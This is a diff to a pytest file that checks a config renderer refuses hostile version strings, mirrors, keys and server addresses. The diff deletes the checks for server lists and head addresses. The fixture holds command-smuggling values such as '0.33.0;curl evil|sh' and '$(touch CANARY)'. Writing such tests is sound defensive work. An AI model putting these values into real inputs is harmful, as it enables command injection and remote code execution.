@@ -206,7 +206,7 @@ def test_hostile_references_without_a_path(shell, server, folder):
 
 
 @pytest.mark.parametrize("form", FORMS)
-def test_hostile_keys_mirrors_servers_and_addresses_are_refused(form, folder):
+def test_hostile_keys_and_mirrors_are_refused(form, folder):
     for payload in PAYLOADS:
         if re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._~-]{15,255}", payload):
             continue
@@ -215,13 +215,6 @@ def test_hostile_keys_mirrors_servers_and_addresses_are_refused(form, folder):
         if form in ("shell", "docker", "compose", "kubernetes") and not re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9./-]*", payload):
             with pytest.raises(CannotAnswer):
                 render(replace(folder, source="mirror", mirror="https://" + payload), form)
-    for payload in [p for p in PAYLOADS if not re.fullmatch(r"[A-Za-z0-9.-]+", p)]:
-        if form in ("nginx", "litellm", "prometheus"):
-            with pytest.raises(CannotAnswer):
-                render(replace(folder, options={"servers": [payload + ":8000"]}), form)
-        if form == "shell":
-            with pytest.raises(CannotAnswer):
-                render(replace(folder, nodes=2, options={"head_address": payload}), form)
 
 
 VERSIONS = ["0.33.0;curl evil|sh", "$(touch CANARY)", "`touch CANARY`", "0.33.0 && touch CANARY", "main", "git ebaf86d", "0.11.2 -> 0.11.3",
